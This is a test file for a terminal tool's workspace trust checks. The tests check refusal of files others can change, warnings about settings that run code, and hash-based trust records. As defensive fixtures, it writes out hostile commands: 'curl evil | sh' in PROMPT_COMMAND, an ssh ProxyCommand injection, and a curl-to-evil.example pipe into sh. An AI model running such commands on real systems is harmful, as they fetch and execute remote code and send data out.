/**
 * A workspace file starts nothing the user has not approved: it is read only when it is the
 * user's own in folders nobody else can change, never as a FIFO or a device; what it starts is
 * shown with the settings that run other code marked; a yes is remembered for that file with that
 * content — surviving a restart, undone by an edit or by `--revoke`.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { admitWorkspace } from '../../src/cli/workspace-trust.js';
import { findProgram } from '../../src/session/launch-check.js';
import { parseJsoncLocated } from '../../src/workspace/jsonc-parse.js';
import { readTrust, recordTrust, revokeTrust, trustFilePath, trustStatus } from '../../src/workspace/trust-store.js';
import { loadWorkspace } from '../../src/workspace/workspace-file.js';
import type { Workspace } from '../../src/workspace/workspace-file.js';
import { readWorkspaceFile } from '../../src/workspace/workspace-read.js';
import { summarizeWorkspace } from '../../src/workspace/workspace-summary.js';
import { isRoot, NOT_ROOT_REASON, OTHER_GID, OTHER_UID, plantDir, plantSymlink } from '../support/other-user.js';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});
function tempDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'belltower-trust-'));
  dirs.push(dir);
  return dir;
}

const HOSTILE = `{
  "tiles": [
    { "name": "build", "command": "id > ~/PWNED" },
    { "agent": "shell", "env": { "PROMPT_COMMAND": "curl evil | sh" } },
    { "agent": "claude", "remote": "'-oProxyCommand=touch /tmp/x' devbox" },
  ],
}
`;

function workspaceIn(dir: string, text = HOSTILE): string {
  const file = path.join(dir, 'belltower.json');
  fs.writeFileSync(file, text, { mode: 0o644 });
  fs.chmodSync(file, 0o644);
  return file;
}

function loaded(file: string): Workspace {
  const result = loadWorkspace(file, 'belltower.json');
  if (!result.ok) throw new Error(result.errors.join('\n'));
  return result.workspace;
}

describe('reading a workspace file', () => {
  it('reads one of yours, with its real path and the SHA-256 of its bytes', () => {
    const file = workspaceIn(tempDir());
    const read = readWorkspaceFile(file, 'belltower.json');
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.file.realPath).toBe(fs.realpathSync(file));
    expect(read.file.sha256).toBe(execFileSync('sha256sum', [file], { encoding: 'utf8' }).split(' ')[0]);
  });

  it('refuses a FIFO without opening it (no wait for a writer), and a device behind your own link', () => {
    const dir = tempDir();
    execFileSync('mkfifo', [path.join(dir, 'belltower.json')]);
    // Opening it would wait for a writer forever: that this returns at all is the proof.
    expect(readWorkspaceFile(path.join(dir, 'belltower.json'), 'belltower.json')).toEqual({ ok: false, error: 'belltower.json: is a FIFO, not a file: belltower does not open it' });
    const other = tempDir();
    fs.symlinkSync('/dev/zero', path.join(other, 'belltower.json'));
    expect(readWorkspaceFile(path.join(other, 'belltower.json'), 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('is a device, not a file') });
    expect(loadWorkspace(other, 'x')).toEqual({ ok: false, errors: ['x: a folder, not a file'] });
  });

  it('nesting past a sane depth is a FILE:LINE error, not a stack overflow; "__proto__" is a plain (unknown) field', () => {
    const deep = `{\n"tiles": [\n${'['.repeat(100_000)}${']'.repeat(100_000)}]}`;
    const parsed = parseJsoncLocated(deep);
    expect(parsed).toMatchObject({ ok: false, line: 3, message: 'nested deeper than 32 levels' });
    const file = workspaceIn(tempDir(), deep);
    expect(loadWorkspace(file, 'belltower.json')).toEqual({ ok: false, errors: ['belltower.json:3: nested deeper than 32 levels'] });
    const proto = loadWorkspace(workspaceIn(tempDir(), '{ "tiles": [{ "agent": "shell" }], "__proto__": { "x": 1 } }'), 'b.json');
    expect(proto).toEqual({ ok: false, errors: ['b.json:1: (top level): unknown field "__proto__"'] });
  });

  describe.skipIf(!isRoot)(`written or reachable by another user (${NOT_ROOT_REASON})`, () => {
    it("refuses a file another user owns (one planted in /tmp), saying whose it is and what to do", () => {
      const dir = tempDir();
      const file = workspaceIn(dir);
      fs.chownSync(file, OTHER_UID, OTHER_GID);
      const read = readWorkspaceFile(file, 'belltower.json');
      expect(read).toMatchObject({ ok: false });
      if (read.ok) return;
      expect(read.error).toMatch(/^belltower\.json: belongs to uid 4242, not to you \(uid 0\): someone else wrote it; .*copy it into a folder of your own/);
    });

    it('refuses your own file in a folder another user can write (not sticky), or one above it', () => {
      const shared = plantDir(path.join(tempDir(), 'shared'), 0o777);
      const file = workspaceIn(shared);
      expect(readWorkspaceFile(file, 'belltower.json')).toMatchObject({ ok: false, error: expect.stringMatching(/shared belongs to uid 4242|shared is writable by other users/) });
      const mine = path.join(shared, 'mine');
      fs.mkdirSync(mine, { mode: 0o755 });
      expect(readWorkspaceFile(workspaceIn(mine), 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('shared') });
      // Group-writable for a group that is not only yours (4242 is listed nowhere): others.
      const group = path.join(tempDir(), 'group');
      fs.mkdirSync(group, { mode: 0o775 });
      fs.chmodSync(group, 0o775);
      fs.chownSync(group, 0, OTHER_GID);
      expect(readWorkspaceFile(workspaceIn(group), 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('is writable by other users (mode 775)') });
    });

    it('refuses a file others can change, and a link another user made', () => {
      const dir = tempDir();
      const file = workspaceIn(dir);
      fs.chmodSync(file, 0o666);
      expect(readWorkspaceFile(file, 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('can be changed by other users (mode 666)') });
      fs.chmodSync(file, 0o644);
      const linked = tempDir();
      plantSymlink(file, path.join(linked, 'belltower.json'));
      expect(readWorkspaceFile(path.join(linked, 'belltower.json'), 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('is a symbolic link made by uid 4242') });
    });

    it('reads your own file in a sticky shared folder (/tmp), and one your private group can write', () => {
      // Like /tmp: root's, sticky, everyone may add entries, nobody may replace yours.
      const sticky = path.join(tempDir(), 'sticky');
      fs.mkdirSync(sticky);
      fs.chmodSync(sticky, 0o1777);
      expect(readWorkspaceFile(workspaceIn(sticky), 'belltower.json').ok).toBe(true);
      // A sticky folder another user owns is theirs to change: refused.
      const theirs = plantDir(path.join(tempDir(), 'theirs'), 0o1777);
      expect(readWorkspaceFile(workspaceIn(theirs), 'belltower.json')).toMatchObject({ ok: false, error: expect.stringContaining('belongs to uid 4242') });
      const upg = path.join(tempDir(), 'upg');
      fs.mkdirSync(upg);
      fs.chmodSync(upg, 0o775); // root:root, and no other account is in group 0 here
      const file = workspaceIn(upg);
      fs.chmodSync(file, 0o664);
      const groupRoot = fs.readFileSync('/etc/group', 'utf8').split('\n').find((l) => l.startsWith('root:'));
      if (groupRoot === 'root:x:0:') expect(readWorkspaceFile(file, 'belltower.json').ok).toBe(true);
    });
  });
});

describe('what a workspace starts, shown before it starts', () => {
  it('every program as run, its folder, every variable and ssh option, the ones that run code marked', () => {
    const dir = tempDir();
    const file = workspaceIn(dir);
    fs.mkdirSync(path.join(dir, 'bin'));
    const ws = loaded(file);
    const lines = summarizeWorkspace(ws, 'belltower.json', { env: { PATH: '/usr/bin:/bin', SHELL: '/bin/bash' }, findProgram, home: '/nonexistent' });
    expect(lines[0]).toBe(`belltower.json (${fs.realpathSync(file)}) starts 3 tiles:`);
    expect(lines).toContain('  1 build: id > ~/PWNED');
    expect(lines[lines.indexOf('  1 build: id > ~/PWNED') + 1]).toBe('      a shell command line, run by /bin/sh -c');
    expect(lines).toContain("      sets PROMPT_COMMAND='curl evil | sh'   ! can make the program run other code");
    expect(lines.find((l) => l.startsWith('  3 claude: ssh'))).toContain("'-oProxyCommand=touch /tmp/x'");
    expect(lines).toContain('      ! ssh option ProxyCommand runs a command on this machine');
    expect(lines.filter((l) => l === `      in ${dir}`).length).toBe(3);
  });

  it('a program PATH finds in the folder itself is said to be one; text that could redraw the terminal is escaped', () => {
    const dir = tempDir();
    fs.mkdirSync(path.join(dir, 'bin'));
    fs.writeFileSync(path.join(dir, 'bin', 'claude'), '#!/bin/sh\n', { mode: 0o755 });
    const file = workspaceIn(dir, `{ "tiles": [{ "name": "x\\u202eevil", "agent": "claude", "env": { "PATH": "${dir}/bin:/usr/bin", "NOTE": "a\\u001b[2Jb\\u200bc" } }] }`);
    const result = loadWorkspace(file, 'belltower.json');
    // The name is refused by the file's own rule; the same text in a value is shown escaped.
    expect(result.ok).toBe(false);
    const ws = loaded(workspaceIn(dir, `{ "tiles": [{ "agent": "claude", "env": { "PATH": "${dir}/bin:/usr/bin", "NOTE": "a\\u001b[2Jb\\u200bc\\u202e" } }] }`));
    const lines = summarizeWorkspace(ws, 'belltower.json', { env: {}, findProgram, home: '/nonexistent' });
    expect(lines).toContain(`      runs ${dir}/bin/claude   ! a program from this folder, not an installed one`);
    expect(lines).toContain("      sets NOTE='a\\x1b[2Jb\\u200bc\\u202e'");
  });

  it('an onRing command is shown as the shell command line it is, escaped, after the tiles', () => {
    const dir = tempDir();
    const ws = loaded(workspaceIn(dir, `{ "tiles": [{ "agent": "shell" }], "onRing": "curl -d \\"$BELLTOWER_NAME\\" evil.example | sh\\u001b[2J" }`));
    expect(ws.onRing).toBe('curl -d "$BELLTOWER_NAME" evil.example | sh\x1b[2J');
    const lines = summarizeWorkspace(ws, 'belltower.json', { env: { SHELL: '/bin/bash' }, findProgram, home: '/nonexistent' });
    expect(lines.slice(-2)).toEqual([
      '  on a ring while no client is attached (a session server), runs: curl -d "$BELLTOWER_NAME" evil.example | sh\\x1b[2J',
      '      a shell command line, run by /bin/sh -c',
    ]);
  });
});

describe('the trust record', () => {
  it('a yes is for this file with this content: it survives a restart (a new read), an edit undoes it, --revoke forgets it', () => {
    const state = tempDir();
    const record = trustFilePath(state);
    const file = workspaceIn(tempDir());
    const ws = loaded(file);
    expect(readTrust(record)).toEqual({ ok: true, record: new Map() });
    recordTrust(record, ws.realPath!, ws.sha256!, new Date('2026-12-01T10:00:00Z'));
    expect(fs.statSync(record).mode & 0o777).toBe(0o600);
    const again = readTrust(record);
    if (!again.ok) throw new Error(again.error);
    expect(trustStatus(again.record, ws.realPath!, ws.sha256!)).toEqual({ kind: 'trusted', since: '2026-12-01T10:00:00.000Z' });
    fs.appendFileSync(file, '\n');
    const edited = loaded(file);
    expect(trustStatus(again.record, edited.realPath!, edited.sha256!)).toEqual({ kind: 'changed', trustedAt: '2026-12-01T10:00:00.000Z' });
    expect(revokeTrust(record, ws.realPath!)).toBe(true);
    expect(revokeTrust(record, ws.realPath!)).toBe(false);
    const after = readTrust(record);
    expect(after.ok && after.record.size).toBe(0);
  });

  it('a record it cannot read is kept aside, not overwritten, and a new one started', () => {
    const state = tempDir();
    const record = trustFilePath(state);
    fs.writeFileSync(record, '{"version": 9}', { mode: 0o600 });
    expect(readTrust(record)).toMatchObject({ ok: false });
    const { note } = recordTrust(record, '/x/belltower.json', 'a'.repeat(64));
    expect(note).toMatch(/kept as .*trusted-workspaces\.json\.unread-/);
    expect(fs.readdirSync(state).filter((n) => n.includes('.unread-'))).toHaveLength(1);
    expect(readTrust(record).ok).toBe(true);
  });
});

describe('the question before a workspace starts', () => {
  const quiet = () => {
    const errors: string[] = [];
    return { errors, out: { line: () => {}, error: (s: string) => errors.push(s) } };
  };

  it('without a terminal: refused with the command that trusts it, nothing recorded', async () => {
    const state = tempDir();
    const ws = loaded(workspaceIn(tempDir()));
    const { errors, out } = quiet();
    expect(await admitWorkspace(ws, 'belltower.json', { ask: null, show: () => {}, out, stateDir: state })).toBe(2);
    expect(errors).toEqual(['belltower: belltower.json is not trusted yet: belltower starts nothing from a workspace file you have not seen. To see what it starts and trust it: belltower trust belltower.json']);
    expect(fs.existsSync(trustFilePath(state))).toBe(false);
  });

  it('shows what it starts and asks, no by default; a yes is not asked again; an edit is', async () => {
    const state = tempDir();
    const file = workspaceIn(tempDir());
    const shown: string[] = [];
    const asked: (boolean | undefined)[] = [];
    const answer = (reply: boolean | null) => async (_q: string, byDefault?: boolean) => {
      asked.push(byDefault);
      return reply;
    };
    const { errors, out } = quiet();
    const gate = (reply: boolean | null) => ({ ask: answer(reply), show: (l: string) => shown.push(l), out, stateDir: state });
    expect(await admitWorkspace(loaded(file), 'belltower.json', gate(false))).toBe(2);
    expect(asked).toEqual([false]);
    expect(shown).toContain('  1 build: id > ~/PWNED');
    expect(errors.at(-1)).toMatch(/nothing started/);
    expect(await admitWorkspace(loaded(file), 'belltower.json', gate(null))).toBe(130);
    expect(await admitWorkspace(loaded(file), 'belltower.json', gate(true))).toBeNull();
    expect(asked).toHaveLength(3);
    expect(await admitWorkspace(loaded(file), 'belltower.json', gate(false))).toBeNull();
    expect(asked).toHaveLength(3);
    fs.writeFileSync(file, HOSTILE.replace('PWNED', 'PWNED2'));
    shown.length = 0;
    expect(await admitWorkspace(loaded(file), 'belltower.json', gate(false))).toBe(2);
    expect(asked).toHaveLength(4);
    expect(shown[0]).toMatch(/^belltower\.json changed since you trusted it \(\d{4}-\d\d-\d\d \d\d:\d\d UTC\)/);
    expect(shown).toContain('  1 build: id > ~/PWNED2');
  });
});
